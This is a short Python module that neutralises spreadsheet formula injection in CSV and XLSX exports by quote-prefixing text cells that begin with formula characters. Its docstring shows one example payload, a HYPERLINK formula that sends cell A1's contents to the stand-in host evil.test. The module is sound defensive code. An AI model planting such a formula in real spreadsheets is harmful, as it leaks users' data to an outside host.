"""Formula injection: a text cell a spreadsheet would run as a formula is stored as text.

Text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (e.g. a campaign
named ``=HYPERLINK("http://evil.test/?"&A1,"x")``) becomes a live formula when Excel or
LibreOffice opens a CSV or an XLSX cell holding it. The XLSX renderer stores such text as a
string cell with Excel's quote prefix; the CSV renderer prefixes it with an apostrophe (the
convention spreadsheets show as plain text). Numbers are never touched: -75 stays a number.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: str) -> str:
    return "'" + value if is_formula_like(value) else value
